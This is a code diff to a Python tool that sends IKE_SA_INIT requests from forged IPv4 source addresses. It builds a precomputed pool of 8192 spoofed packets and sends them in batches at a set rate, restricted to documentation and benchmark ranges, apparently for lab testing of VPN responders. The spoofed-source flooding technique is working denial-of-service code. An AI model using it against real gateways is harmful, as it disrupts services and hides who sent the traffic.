@@ -2,7 +2,7 @@
 """Send IKE_SA_INIT requests under other hosts' addresses (IPv4), to see what a responder makes of them.
 
     flood.py FROM TO one                   a single one, from exactly this address
-    flood.py NETWORK TO RATE SECONDS       RATE a second for so long, each from another address of the network
+    flood.py NETWORK TO RATE SECONDS       RATE a second for so long, from 8192 addresses of the network in turn
 
 Each is what an honest initiator would send: AES-GCM-16 with 128 bits, HMAC-SHA2-256, Curve25519, and of usual length. The
 answers go to whoever has the address. Meant for a network made for the purpose: it refuses to run outside the ranges for
@@ -17,7 +17,7 @@ import sys
 import time
 
 ALLOWED = [ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "198.18.0.0/15")]
-BATCH = 64
+BATCH, POOL = 64, 8192
 SOURCE_AT, SPI_AT, NONCE_AT = 12, 28, 28 + 28 + 40 + 40 + 4  # in the IP packet
 
 
@@ -61,32 +61,37 @@ class MsgHdr(ctypes.Structure):
     ]
 
 
+def many(network, target):
+    """Return POOL packets, each from another address and with another SPI and nonce, and the messages that carry them."""
+    packet = request(network[1], target)
+    first = int(network.network_address)
+    address = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + bytes(2) + target.packed + bytes(8), 16)
+    packets = ctypes.create_string_buffer(packet * POOL, len(packet) * POOL)
+    messages, vectors = (MsgHdr * POOL)(), (IoVec * POOL)()
+    for number in range(POOL):
+        at = number * len(packet)
+        packets[at + SOURCE_AT : at + SOURCE_AT + 4] = struct.pack("!I", first + number * 7919 % network.num_addresses)
+        packets[at + SPI_AT : at + SPI_AT + 8] = packets[at + NONCE_AT : at + NONCE_AT + 8] = os.urandom(8)
+        vectors[number].base, vectors[number].length = ctypes.addressof(packets) + at, len(packet)
+        messages[number].name, messages[number].name_length = ctypes.addressof(address), 16
+        messages[number].iov, messages[number].iov_count = ctypes.pointer(vectors[number]), 1
+    return messages, (packets, vectors, address)
+
+
 def flood(raw, network, target, rate, seconds):
     """Return how many packets were sent, and the seconds that it took."""
-    packet = request(network[1], target)
-    buffers = [ctypes.create_string_buffer(packet, len(packet)) for _ in range(BATCH)]
-    address = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + bytes(2) + target.packed + bytes(8), 16)
-    messages = (MsgHdr * BATCH)()
-    vectors = (IoVec * BATCH)()
-    for message, vector, buffer in zip(messages, vectors, buffers):
-        vector.base, vector.length = ctypes.addressof(buffer), len(packet)
-        message.name, message.name_length = ctypes.addressof(address), 16
-        message.iov, message.iov_count = ctypes.pointer(vector), 1
-    views = [memoryview(buffer).cast("B") for buffer in buffers]
+    messages, kept = many(network, target)
+    batches = [ctypes.byref(messages, at * ctypes.sizeof(MsgHdr)) for at in range(0, POOL, BATCH)]
     send = ctypes.CDLL(None, use_errno=True).sendmmsg
-    hosts, first = network.num_addresses, int(network.network_address)
-    sent, began = 0, time.monotonic()
+    sent, turn, began = 0, 0, time.monotonic()
     while (elapsed := time.monotonic() - began) < seconds:
         if sent > elapsed * rate:
             time.sleep(BATCH / rate)
             continue
-        for number, view in enumerate(views, sent):
-            view[SOURCE_AT : SOURCE_AT + 4] = struct.pack("!I", first + number * 7919 % hosts)
-            unlike = struct.pack("!Q", (number + 1) * 0x9E3779B97F4A7C15 & 0xFFFFFFFFFFFFFFFF)
-            view[SPI_AT : SPI_AT + 8] = unlike
-            view[NONCE_AT : NONCE_AT + 8] = unlike
-        sent += max(0, send(raw.fileno(), messages, BATCH, 0))
-    return sent, time.monotonic() - began
+        sent += max(0, send(raw.fileno(), batches[turn % len(batches)], BATCH, 0))
+        turn += 1
+    del kept
+    return sent, elapsed
 
 
 def main():
